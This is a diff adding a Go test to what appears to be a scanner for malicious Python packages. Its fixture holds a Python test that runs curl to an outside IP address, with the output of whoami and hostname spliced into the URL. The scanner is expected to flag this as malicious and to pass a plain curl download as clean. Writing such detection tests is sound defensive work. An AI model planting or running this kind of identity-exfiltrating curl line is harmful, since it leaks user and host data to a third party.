@@ -413,3 +413,14 @@ func TestDownloadMadeExecutable(t *testing.T) {
 		t.Errorf("downloaded data made readable: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestShellIdentityInAnyContext(t *testing.T) {
+	r := sdist(t, map[string]string{"p/test_cb.py": "import subprocess\ndef test_cb():\n    subprocess.run(['curl', 'http://203.0.113.4:8585/p?user=$(whoami)&h=$(hostname)'])\n"})
+	if r.Verdict != Malicious {
+		t.Errorf("identity spliced into curl in a test: %s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"tests/test_dl.py": "import subprocess\ndef test_dl(tmp_path):\n    subprocess.run(['curl', '-o', str(tmp_path / 'x'), 'https://example.invalid/x'])\n"})
+	if r.Verdict != Clean {
+		t.Errorf("plain curl in a test: %s %+v", r.Verdict, r.Findings)
+	}
+}
